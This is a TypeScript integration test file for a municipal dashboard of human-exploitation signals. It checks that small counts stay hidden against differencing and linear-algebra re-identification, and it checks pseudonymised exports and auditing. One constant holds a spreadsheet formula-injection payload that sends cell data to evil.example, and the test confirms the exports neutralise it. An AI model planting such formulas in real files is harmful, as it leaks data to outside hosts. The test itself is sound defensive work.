import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DashboardView } from '../../../shared/api/dashboard.js';
import { EXPLOITATION_FORMS, type ExploitationForm, type SourceContext } from '../../../shared/domain.js';
import { expectStatus, partnerIds } from '../../testing/helpers.js';
import { createTestContext, loginWith, type Client, type TestContext } from '../../testing/test-app.js';
import { queryRows } from '../../testing/test-database.js';
import { cellId as familyCellId } from './dashboard.figures.js';
import { isSmall, recomputableHiddenCells, sumOf, type Cell, type Constraint } from './suppression.js';

/**
 * The proof, part 2 (integration): signals are created in a controlled way — a few in one month,
 * one form, one department — and the analyst then asks EVERY combination of the filters. The test
 * knows every signal, so it knows the true value and the population (the set of signals) behind
 * every number the analyst sees, and checks that nothing hidden can be recovered:
 *
 *  - primary: every true count 0 < n < 5 is hidden wherever it appears;
 *  - consistency: a cell hidden in one answer is hidden in every answer (else one query undoes
 *    another's suppression);
 *  - differencing of nested populations: for ANY two visible numbers whose populations are nested
 *    (a year and one of its months, a quarter and a month, all forms and one form, signals and
 *    referred signals, all signals and one department or partner, …) the difference is 0 or ≥ 5;
 *  - tables with a total: total minus the visible cells is 0 or ≥ 5;
 *  - linear algebra: no hidden cell is a linear combination of the visible ones, with every kind of
 *    signal (combination of forms × month × referred × department) as an unknown;
 *  - overlapping or adjacent month ranges (Jan–Mar vs Jan–Feb, Feb–Apr, Apr–Jun) and combinations
 *    of forms — the inputs of the classic differencing and inclusion–exclusion attacks — are refused
 *    for the analyst: the defence is a fixed family of tables per calendar year.
 */

const THRESHOLD = 5;
const YEAR = 2026;
const GRANULARITIES = ['month', 'quarter', 'year'] as const;
const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"klik")';

interface Truth {
  id: string;
  month: string;
  forms: ExploitationForm[];
  department: string;
  sourceContext: SourceContext;
  referred: boolean;
  partners: string[];
  feedback: string[];
}

describe('dashboard (issue 5)', () => {
  let ctx: TestContext;
  let coordinator: Client;
  let analyst: Client;
  let reporter: Client;
  let reporter2: Client;
  let partners: Record<string, string>;
  const truth: Truth[] = [];

  /** Submit at `at`, register a day later, optionally refer (and record feedback). */
  async function signal(
    at: string,
    by: 'reporter' | 'reporter2' | 'coordinator',
    forms: ExploitationForm[],
    sourceContext: SourceContext,
    refer?: { partner: string; on: string; feedbackOn?: string },
  ) {
    const client = { reporter, reporter2, coordinator }[by];
    ctx.clock.set(at);
    const { id } = expectStatus(await client.post('/api/signals', {
      observedOn: at.slice(0, 10), explanation: 'Gecontroleerd testsignaal.', exploitationForms: forms, acuteDanger: false, victimInvolved: 'no', sourceContext,
    }), 201, 'submit').json() as { id: string };
    ctx.clock.set(new Date(new Date(at).getTime() + 86_400_000));
    expectStatus(await coordinator.post(`/api/signals/${id}/register`), 204, 'register');
    const department = { reporter: 'dienstverlening', reporter2: 'sociaal-domein', coordinator: 'oov' }[by];
    const t: Truth = { id, month: at.slice(0, 7), forms, department: ctx.departmentIds[department]!, sourceContext, referred: false, partners: [], feedback: [] };
    if (refer) {
      const referral = expectStatus(await coordinator.post(`/api/signals/${id}/referrals`, { partnerId: partners[refer.partner], referredOn: refer.on, channel: 'phone' }), 201, 'refer').json() as { id: string };
      t.referred = true;
      t.partners.push(partners[refer.partner]!);
      if (refer.feedbackOn) {
        expectStatus(await coordinator.post(`/api/referrals/${referral.id}/feedback`, { receivedOn: refer.feedbackOn, text: 'Opgepakt.' }), 204, 'feedback');
        t.feedback.push(partners[refer.partner]!);
      }
    }
    truth.push(t);
  }

  beforeAll(async () => {
    ctx = await createTestContext();
    [coordinator, analyst, reporter, reporter2] = await Promise.all([ctx.login('coordinator'), ctx.login('analyst'), ctx.login('reporter'), ctx.login('reporter2')]);
    partners = await partnerIds(ctx.database, ctx.municipality.id);
    // 2025 (for the year-on-year comparison): 6 labour signals in June.
    for (let i = 0; i < 6; i++) await signal('2025-06-10T09:00:00Z', 'reporter', ['labour'], 'inspection');
    // January 2026: 7 sexual signals at the desk, 6 referred to the police (so 1 NOT referred: a hidden complement).
    for (let i = 0; i < 7; i++) await signal(`2026-01-0${i + 2}T09:00:00Z`, 'reporter', ['sexual'], 'desk', i < 6 ? { partner: 'politie-avim', on: '2026-01-12' } : undefined);
    // March: 2 labour signals from another department, and one with two forms (sexual + criminal).
    for (let i = 0; i < 2; i++) await signal('2026-03-05T09:00:00Z', 'reporter2', ['labour'], 'home_visit');
    await signal('2026-03-20T09:00:00Z', 'reporter', ['sexual', 'criminal'], 'desk');
    // May: 6 criminal signals from a tip, 3 referred to the OM, 2 of those with feedback.
    for (let i = 0; i < 6; i++) await signal('2026-05-04T09:00:00Z', 'coordinator', ['criminal'], 'external_tip', i < 3 ? { partner: 'om', on: '2026-05-10', feedbackOn: i < 2 ? '2026-05-30' : undefined } : undefined);
    // August: 5 labour signals from home visits.
    for (let i = 0; i < 5; i++) await signal('2026-08-11T09:00:00Z', 'reporter2', ['labour'], 'home_visit');
    ctx.clock.set('2026-11-28T10:00:00Z');
  }, 120_000);
  afterAll(async () => ctx.close());

  const get = async (client: Client, query: string) => expectStatus(await client.get(`/api/stats/dashboard?${query}`), 200, query).json() as DashboardView;

  it('gives the coordinator exact counts, for any range and combination of forms', async () => {
    const view = await get(coordinator, `year=${YEAR}`);
    expect(view.exact).toBe(true);
    expect(view.totals.signals).toEqual({ value: 21, suppressed: false });
    expect(view.totals.referred).toEqual({ value: 9, suppressed: false });
    expect(view.series.find((s) => s.label === '2026-03')!.signals).toEqual({ value: 3, suppressed: false });
    expect(Object.fromEntries(view.byForm.map((f) => [f.form, f.signals.value]))).toMatchObject({ sexual: 8, labour: 7, criminal: 7 });
    expect(view.partners.find((p) => p.partnerId === partners.om)).toMatchObject({ signals: { value: 3 }, feedbackReceived: { value: 2 }, feedbackMedianDays: 20 });
    expect(view.leadTimes.find((l) => l.step === 'received_registered')).toMatchObject({ n: 21, medianDays: 1 });
    expect(view.yearOnYear.signals.previous).toEqual({ value: 6, suppressed: false });
    // Any range and any combination of forms: exact.
    const range = await get(coordinator, 'from=2026-02&to=2026-05&forms=labour,criminal&granularity=quarter');
    expect(range.totals.signals.value).toBe(9);
    expect(range.series.map((s) => [s.label, s.from, s.to, s.signals.value])).toEqual([['2026-Q1', '2026-02', '2026-03', 3], ['2026-Q2', '2026-04', '2026-05', 6]]);
    // The deputy too.
    expect((await get(await ctx.login('deputy'), `year=${YEAR}`)).totals.signals.value).toBe(21);
  });

  it('shows the analyst small counts as "< 5", and exact counts where safe', async () => {
    const view = await get(analyst, `year=${YEAR}`);
    expect(view.exact).toBe(false);
    expect(view.threshold).toBe(THRESHOLD);
    expect(view.totals.signals).toEqual({ value: 21, suppressed: false });
    expect(view.series.find((s) => s.label === '2026-03')!.signals).toEqual({ value: null, suppressed: true });
    // January: 7 signals, 6 referred → "not referred" is 1, so "referred" in January must not be shown.
    expect(view.series.find((s) => s.label === '2026-01')!.referred.suppressed).toBe(true);
    expect(view.leadTimes.every((l) => l.n === null)).toBe(true);
    // Percentiles over fewer than 5 signals are hidden (3 reporter feedbacks... none given here).
    expect(view.leadTimes.find((l) => l.step === 'received_closed')).toMatchObject({ suppressed: true, medianDays: null });
  });

  it('the yearly overview agrees with the dashboard for the analyst (one protected family, not two rules)', async () => {
    const yearly = expectStatus(await analyst.get('/api/stats/yearly'), 200).json() as { years: { year: number; signals: number | null; referred: number | null }[] };
    for (const y of [YEAR - 1, YEAR]) {
      const view = await get(analyst, `year=${y}`);
      const row = yearly.years.find((r) => r.year === y)!;
      expect(row.signals).toBe(view.totals.signals.value);
      expect(row.referred).toBe(view.totals.referred.value);
    }
  });

  describe('no combination of the analyst\'s filters reveals a suppressed count', () => {
    /** Every number the analyst saw, with its population (the signals it counts). */
    interface Seen { key: string; value: number | null; hidden: boolean; population: Set<string> }
    const seen = new Map<string, Seen>();
    const answers: { query: string; view: DashboardView }[] = [];

    const filterOf = (view: DashboardView) => (view.forms.length === EXPLOITATION_FORMS.length ? 'all' : view.forms[0]!);
    const pop = (pred: (t: Truth) => boolean) => new Set(truth.filter(pred).map((t) => t.id));
    const inFilter = (f: string) => (t: Truth) => f === 'all' || t.forms.includes(f as ExploitationForm);
    const inMonths = (from: string, to: string) => (t: Truth) => t.month >= from && t.month <= to;

    function record(key: string, count: { value: number | null; suppressed: boolean }, population: Set<string>, where: string) {
      const entry = { key, value: count.value, hidden: count.suppressed, population };
      const truthValue = population.size;
      // What is shown is true; what is small is hidden.
      if (!entry.hidden) expect(entry.value, `${where} ${key}`).toBe(truthValue);
      if (isSmall(truthValue, THRESHOLD)) expect(entry.hidden, `${where} ${key} = ${truthValue} is shown`).toBe(true);
      const before = seen.get(key);
      // Consistency: the same cell is hidden in every answer or in none.
      if (before) expect(entry.hidden, `${where} ${key}: hidden in one answer, shown in another`).toBe(before.hidden);
      else seen.set(key, entry);
    }

    function recordView(view: DashboardView, query: string) {
      const f = filterOf(view);
      const year = (p: { from: string; to: string }) => `${p.from}..${p.to}`;
      const yearPop = (p: { from: string; to: string }) => pop((t) => inFilter(f)(t) && inMonths(p.from, p.to)(t));
      record(`${f}|sig|${year(view.period)}`, view.totals.signals, yearPop(view.period), query);
      record(`${f}|ref|${year(view.period)}`, view.totals.referred, pop((t) => yearPop(view.period).has(t.id) && t.referred), query);
      for (const s of view.series) {
        const p = pop((t) => inFilter(f)(t) && inMonths(s.from, s.to)(t));
        record(`${f}|sig|${s.from}..${s.to}`, s.signals, p, query);
        record(`${f}|ref|${s.from}..${s.to}`, s.referred, pop((t) => p.has(t.id) && t.referred), query);
      }
      for (const b of view.byForm) record(`${b.form}|sig|${year(view.period)}`, b.signals, pop((t) => t.forms.includes(b.form) && inMonths(view.period.from, view.period.to)(t)), query);
      const inYear = yearPop(view.period);
      for (const d of view.byDepartment) record(`${f}|dep|${d.departmentId}|${year(view.period)}`, d.signals, pop((t) => inYear.has(t.id) && (t.department ?? null) === d.departmentId), query);
      for (const c of view.bySourceContext) record(`${f}|ctx|${c.sourceContext}|${year(view.period)}`, c.signals, pop((t) => inYear.has(t.id) && t.sourceContext === c.sourceContext), query);
      for (const p of view.partners) {
        record(`${f}|par|${p.partnerId}|${year(view.period)}`, p.signals, pop((t) => inYear.has(t.id) && t.partners.includes(p.partnerId)), query);
        record(`${f}|fb|${p.partnerId}|${year(view.period)}`, p.feedbackReceived, pop((t) => inYear.has(t.id) && t.feedback.includes(p.partnerId)), query);
        // Rates follow their counts.
        if (p.signals.suppressed) expect(p.share.suppressed).toBe(true);
        if (p.feedbackReceived.suppressed || p.signals.suppressed) expect(p.feedbackShare.suppressed).toBe(true);
      }
      const prev = view.yearOnYear.previous;
      record(`${f}|sig|${year(prev)}`, view.yearOnYear.signals.previous, yearPop(prev), query);
      record(`${f}|ref|${year(prev)}`, view.yearOnYear.referred.previous, pop((t) => yearPop(prev).has(t.id) && t.referred), query);
    }

    beforeAll(async () => {
      // EVERY combination the analyst may ask: granularity × (no filter, each form, all forms spelled out) × period spelling × year.
      const formFilters = ['', ...EXPLOITATION_FORMS.map((f) => `&forms=${f}`), `&forms=${EXPLOITATION_FORMS.join(',')}`];
      for (const y of [YEAR, YEAR - 1]) {
        for (const g of GRANULARITIES) {
          for (const forms of formFilters) {
            for (const period of [`year=${y}`, `from=${y}-01&to=${y}-12`]) {
              const query = `${period}&granularity=${g}${forms}`;
              answers.push({ query, view: await get(analyst, query) });
            }
          }
        }
      }
      // And without any parameter: the current year.
      answers.push({ query: '', view: await get(analyst, '') });
      for (const { query, view } of answers) recordView(view, query);
    }, 120_000);

    it('refuses the inputs of differencing: partial-year, overlapping and adjacent ranges, and combinations of forms', async () => {
      const ranges = ['from=2026-01&to=2026-03', 'from=2026-01&to=2026-02', 'from=2026-03&to=2026-03', 'from=2026-02&to=2026-04', 'from=2026-04&to=2026-06', 'from=2025-07&to=2026-06', 'from=2025-01&to=2026-12'];
      for (const range of ranges) {
        for (const g of GRANULARITIES) {
          const res = await analyst.get(`/api/stats/dashboard?${range}&granularity=${g}`);
          expect(res.statusCode, range).toBe(400);
          expect(res.json().message + JSON.stringify(res.json().fields)).toMatch(/kalenderjaar/);
        }
      }
      // Every combination of two to four forms (inclusion–exclusion would recover signals with an exact set of forms).
      const combos = Array.from({ length: 2 ** EXPLOITATION_FORMS.length }, (_, i) => EXPLOITATION_FORMS.filter((_, j) => (i >> j) & 1)).filter((c) => c.length >= 2 && c.length < EXPLOITATION_FORMS.length);
      expect(combos).toHaveLength(25);
      for (const c of combos) {
        const res = await analyst.get(`/api/stats/dashboard?year=${YEAR}&forms=${c.join(',')}`);
        expect(res.statusCode, c.join(',')).toBe(400);
      }
      // Aggregated exports follow the same rules, for the coordinator too.
      expect((await coordinator.get('/api/stats/dashboard/export?from=2026-01&to=2026-03')).statusCode).toBe(400);
    });

    it('hides every small count, consistently across all answers, and shows only true values', () => {
      expect(answers.length).toBe(2 * 3 * 7 * 2 + 1);
      expect(seen.size).toBeGreaterThan(100);
      // Not vacuous: there are hidden and shown cells.
      const values = [...seen.values()];
      expect(values.some((s) => s.hidden)).toBe(true);
      expect(values.some((s) => !s.hidden && (s.value ?? 0) > 0)).toBe(true);
    });

    it('differencing: no two visible numbers whose populations are nested by definition differ by 1 to 4', async () => {
      // Covers: a year (or quarter) minus its months; the period A∪B minus A; all forms minus one form
      // (the form filter with and without a form); signals minus referred; a total minus a department,
      // source context or partner; referred minus referred to one outside partner; referred to a
      // partner minus feedback received. "By definition": what a reader knows is nested without
      // seeing a cross-tabulation (the dashboard publishes none, e.g. department × month).
      const external = new Set((await get(coordinator, `year=${YEAR}`)).partners.filter((p) => p.kind === 'external').map((p) => p.partnerId));
      const parse = (key: string) => {
        const [filter, kind, x, y] = key.split('|') as [string, string, string, string?];
        const range = (kind === 'sig' || kind === 'ref' ? x : y)!;
        const [from, to] = range.split('..') as [string, string];
        return { filter, kind, item: kind === 'sig' || kind === 'ref' ? null : x, from, to };
      };
      const contains = (a: ReturnType<typeof parse>, b: ReturnType<typeof parse>) => {
        if (!(a.filter === 'all' || a.filter === b.filter)) return false;
        if (!(a.from <= b.from && b.to <= a.to)) return false;
        switch (a.kind) {
          case 'sig': return true;
          case 'ref': return b.kind === 'ref' || ((b.kind === 'par' || b.kind === 'fb') && external.has(b.item!));
          case 'dep': case 'ctx': return b.kind === a.kind && b.item === a.item;
          case 'par': return (b.kind === 'par' || b.kind === 'fb') && b.item === a.item;
          case 'fb': return b.kind === 'fb' && b.item === a.item;
          default: return false;
        }
      };
      const visible = [...seen.values()].filter((s) => !s.hidden).map((s) => ({ ...s, parsed: parse(s.key) }));
      let pairs = 0;
      for (const a of visible) {
        for (const b of visible) {
          if (a === b || !contains(a.parsed, b.parsed)) continue;
          // The test's own bookkeeping agrees: the populations are nested.
          expect([...b.population].every((id) => a.population.has(id)), `${a.key} ⊇ ${b.key}`).toBe(true);
          pairs++;
          expect(isSmall(a.population.size - b.population.size, THRESHOLD), `${a.key} (${a.value}) − ${b.key} (${b.value})`).toBe(false);
        }
      }
      expect(pairs).toBeGreaterThan(100);
    });

    it('tables with a total: the total minus the visible cells is never 1 to 4, and never one hidden cell alone', () => {
      for (const { query, view } of answers) {
        const tables: [string, { value: number | null; suppressed: boolean }, { value: number | null; suppressed: boolean }[]][] = [
          ['series', view.totals.signals, view.series.map((s) => s.signals)],
          ['series referred', view.totals.referred, view.series.map((s) => s.referred)],
          ['departments', view.totals.signals, view.byDepartment.map((d) => d.signals)],
          ['source contexts', view.totals.signals, view.bySourceContext.map((c) => c.signals)],
          ['open work', view.openWork.total, view.openWork.byState.map((s) => s.signals)],
        ];
        for (const [name, total, cells] of tables) {
          if (total.suppressed) continue;
          const hidden = cells.filter((c) => c.suppressed);
          if (cells.length > 1) expect(hidden.length, `${query} ${name}`).not.toBe(1);
          const rest = total.value! - cells.filter((c) => !c.suppressed).reduce((s, c) => s + c.value!, 0);
          expect(isSmall(rest, THRESHOLD), `${query} ${name}: total − visible = ${rest}`).toBe(false);
        }
      }
    });

    it('linear algebra: no hidden series or department count of the year is a combination of the visible ones', () => {
      // The unknowns: the number of signals of every possible kind (combination of forms × month × referred × department),
      // whether or not such signals exist. Rows: every number the analyst saw about YEAR.
      const combos = Array.from({ length: 2 ** EXPLOITATION_FORMS.length - 1 }, (_, i) => EXPLOITATION_FORMS.filter((_, j) => ((i + 1) >> j) & 1));
      const months = Array.from({ length: 12 }, (_, i) => `${YEAR}-${String(i + 1).padStart(2, '0')}`);
      const departments = [...Object.values(ctx.departmentIds), null];
      type Kind = { forms: string[]; month: string; referred: boolean; department: string | null };
      const kinds: Kind[] = [];
      for (const forms of combos) for (const month of months) for (const referred of [false, true]) for (const department of departments) kinds.push({ forms, month, referred, department });
      const cells = new Map<string, Cell>(kinds.map((_, i) => [`k${i}`, { value: 0, kind: 'virtual' }]));
      const constraints: Constraint[] = [];
      const hidden = new Set<string>();
      for (const s of seen.values()) {
        const [f, what, a, b] = s.key.split('|') as [string, string, string, string?];
        const range = (what === 'sig' || what === 'ref' ? a : b)!;
        if (!range.startsWith(`${YEAR}-`)) continue;
        const [from, to] = range.split('..') as [string, string];
        let member: ((k: Kind) => boolean) | undefined;
        const base = (k: Kind) => (f === 'all' || k.forms.includes(f)) && k.month >= from && k.month <= to;
        if (what === 'sig') member = base;
        if (what === 'ref') member = (k) => base(k) && k.referred;
        if (what === 'dep') member = (k) => base(k) && String(k.department) === a;
        if (!member) continue;
        const id = familyCellId('all', s.key);
        cells.set(id, { value: s.population.size, kind: 'published' });
        if (s.hidden) hidden.add(id);
        constraints.push(sumOf(id, kinds.flatMap((k, i) => (member(k) ? [`k${i}`] : []))));
      }
      expect(hidden.size).toBeGreaterThan(5);
      expect(recomputableHiddenCells(cells, constraints, hidden)).toEqual([]);
    }, 120_000);
  });

  describe('exports', () => {
    const csv = async (client: Client, url: string) => {
      const res = expectStatus(await client.get(url), 200, url);
      expect(res.headers['content-disposition']).toMatch(/^attachment; filename="meldroute-[a-z]+-[\d-]+\.csv"$/);
      expect(res.headers['cache-control']).toBe('no-store');
      expect(res.headers['content-type']).toMatch(/^text\/csv/);
      return res.body;
    };
    const xlsx = async (client: Client, url: string) => {
      const res = expectStatus(await client.get(url), 200, url);
      expect(res.headers['content-disposition']).toMatch(/\.xlsx"$/);
      expect(res.headers['cache-control']).toBe('no-store');
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
      const rows: unknown[][] = [];
      wb.worksheets[0]!.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
      return rows;
    };

    it('aggregated figures: suppressed for everyone — the coordinator\'s export equals the analyst\'s', async () => {
      const a = await csv(analyst, `/api/stats/dashboard/export?year=${YEAR}&format=csv`);
      const c = await csv(coordinator, `/api/stats/dashboard/export?year=${YEAR}&format=csv`);
      expect(c).toBe(a);
      expect(a).toContain('"Reeks","2026-03","signalen","< 5"');
      expect(a).toContain('"Totaal","","signalen",21');
      // The exact March count (3) appears nowhere as a March figure.
      expect(a).not.toMatch(/"2026-03","signalen",3\b/);
      const rows = await xlsx(coordinator, `/api/stats/dashboard/export?year=${YEAR}&format=xlsx`);
      expect(rows[0]).toEqual(['Onderdeel', 'Categorie', 'Maat', 'Waarde']);
      expect(rows).toContainEqual(['Reeks', '2026-03', 'signalen', '< 5']);
    });

    it('pseudonymised signal rows for the coordinator: facts only, a fresh pseudonym per export', async () => {
      const one = await csv(coordinator, `/api/stats/signals/export?year=${YEAR}`);
      const two = await csv(coordinator, `/api/stats/signals/export?year=${YEAR}`);
      const lines = one.trim().split('\r\n');
      expect(lines).toHaveLength(1 + 21);
      expect(lines[0]).toContain('"Pseudoniem"');
      const pseudonyms = (body: string) => body.trim().split('\r\n').slice(1).map((l) => l.split(',')[0]);
      expect(new Set(pseudonyms(one)).size).toBe(21);
      expect(pseudonyms(one).filter((p) => pseudonyms(two).includes(p))).toEqual([]);
      // No signal number, id, free text or person.
      for (const t of truth) expect(one).not.toContain(t.id);
      expect(one).not.toMatch(/MH-\d{4}-/);
      expect(one).not.toContain('Gecontroleerd testsignaal');
      expect(one).not.toContain('Rita Reporter');
      const rows = await xlsx(coordinator, `/api/stats/signals/export?year=${YEAR}&format=xlsx`);
      expect(rows).toHaveLength(22);
      // The analyst gets no rows.
      expect((await analyst.get(`/api/stats/signals/export?year=${YEAR}`)).statusCode).toBe(403);
    });

    it('neutralises a hostile department name in both exports and both formats', async () => {
      const admin = await ctx.login('admin');
      expectStatus(await admin.patch(`/api/admin/departments/${ctx.departmentIds['sociaal-domein']}`, { name: HOSTILE }), 200, 'rename');
      const quoted = `"'${HOSTILE.replace(/"/g, '""')}"`;
      expect(await csv(coordinator, `/api/stats/dashboard/export?year=${YEAR}`)).toContain(quoted);
      expect(await csv(coordinator, `/api/stats/signals/export?year=${YEAR}`)).toContain(quoted);
      for (const url of [`/api/stats/dashboard/export?year=${YEAR}&format=xlsx`, `/api/stats/signals/export?year=${YEAR}&format=xlsx`]) {
        const cells = (await xlsx(coordinator, url)).flat().filter((v) => typeof v === 'string' && v.includes('HYPERLINK'));
        expect(cells.length, url).toBeGreaterThan(0);
        for (const v of cells) expect(v).toBe(`'${HOSTILE}`);
      }
    });
  });

  it('audits every view and export with its filter, without personal data', async () => {
    await get(analyst, `year=${YEAR}&forms=labour&granularity=quarter`);
    const rows = await queryRows<{ action: string; actor_role: string; details: Record<string, unknown> }>(
      ctx.database,
      sql`select action, actor_role, details from audit_log where action like 'stats.%' order by seq desc`,
    );
    expect(rows[0]).toMatchObject({ action: 'stats.dashboard', actor_role: 'analyst', details: { from: '2026-01', to: '2026-12', granularity: 'quarter', forms: 'labour', exact: false } });
    const actions = new Set(rows.map((r) => r.action));
    for (const a of ['stats.dashboard', 'stats.export', 'stats.signals_export']) expect(actions).toContain(a);
    expect(rows.find((r) => r.action === 'stats.signals_export' && r.actor_role === 'analyst')).toBeDefined();
    const denied = await queryRows<{ result: string }>(ctx.database, sql`select result from audit_log where action = 'stats.signals_export' and actor_role = 'analyst'`);
    expect(denied.map((d) => d.result)).toContain('denied');
    for (const r of rows) expect(JSON.stringify(r.details ?? {})).not.toMatch(/Rita|Otto|Gecontroleerd|MH-/);
  });

  it('counts the referrals whose feedback is overdue: awaited, due before today, of this municipality only', async () => {
    // Six referrals to the police in January and one of the three to the OM in May still await feedback.
    expect((await get(coordinator, `year=${YEAR}`)).openWork.overdueReferrals).toEqual({ value: 7, suppressed: false });
    // Another municipality's overdue referral is not counted here; one due today or later is not overdue.
    const other = await ctx.otherMunicipality();
    const elders = await loginWith(ctx, other.coordinatorUsername);
    const otherPartners = await partnerIds(ctx.database, other.municipality.id);
    const { id } = expectStatus(await elders.post('/api/signals', {
      observedOn: '2026-02-01', explanation: 'Signaal elders.', exploitationForms: ['labour'], acuteDanger: false, victimInvolved: 'no', sourceContext: 'desk',
    }), 201, 'submit elsewhere').json() as { id: string };
    expectStatus(await elders.post(`/api/signals/${id}/register`), 204, 'register elsewhere');
    expectStatus(await elders.post(`/api/signals/${id}/referrals`, { partnerId: Object.values(otherPartners)[0], referredOn: '2026-02-02', channel: 'phone' }), 201, 'refer elsewhere');
    const mine = (await coordinator.post('/api/signals', {
      observedOn: '2026-11-27', explanation: 'Signaal met termijn.', exploitationForms: ['labour'], acuteDanger: false, victimInvolved: 'no', sourceContext: 'desk',
    })).json() as { id: string };
    expectStatus(await coordinator.post(`/api/signals/${mine.id}/register`), 204, 'register');
    expectStatus(await coordinator.post(`/api/signals/${mine.id}/referrals`, { partnerId: partners.om, referredOn: '2026-11-01', feedbackDueOn: '2026-11-28', channel: 'phone' }), 201, 'refer due today');
    expect((await get(coordinator, `year=${YEAR}`)).openWork.overdueReferrals).toEqual({ value: 7, suppressed: false });
    expect((await get(elders, `year=${YEAR}`)).openWork.overdueReferrals).toEqual({ value: 1, suppressed: false });
    // The referral is stored with its signal's municipality (taken from the signal, not from the caller).
    const rows = await queryRows<{ municipality_id: string }>(ctx.database, sql`select municipality_id from referrals where signal_id = ${id}`);
    expect(rows).toEqual([{ municipality_id: other.municipality.id }]);
  });

  it('takes the threshold from the municipality settings', async () => {
    const admin = await ctx.login('admin');
    expectStatus(await admin.patch('/api/admin/settings', { smallCellThreshold: 8 }), 200);
    const view = await get(analyst, `year=${YEAR}`);
    expect(view.threshold).toBe(8);
    // August has 5 labour signals: shown at threshold 5, hidden at 8.
    expect(view.series.find((s) => s.label === '2026-08')!.signals.suppressed).toBe(true);
    expect((await admin.patch('/api/admin/settings', { smallCellThreshold: 2 })).statusCode).toBe(400);
    expectStatus(await admin.patch('/api/admin/settings', { smallCellThreshold: 5 }), 200);
  });
});
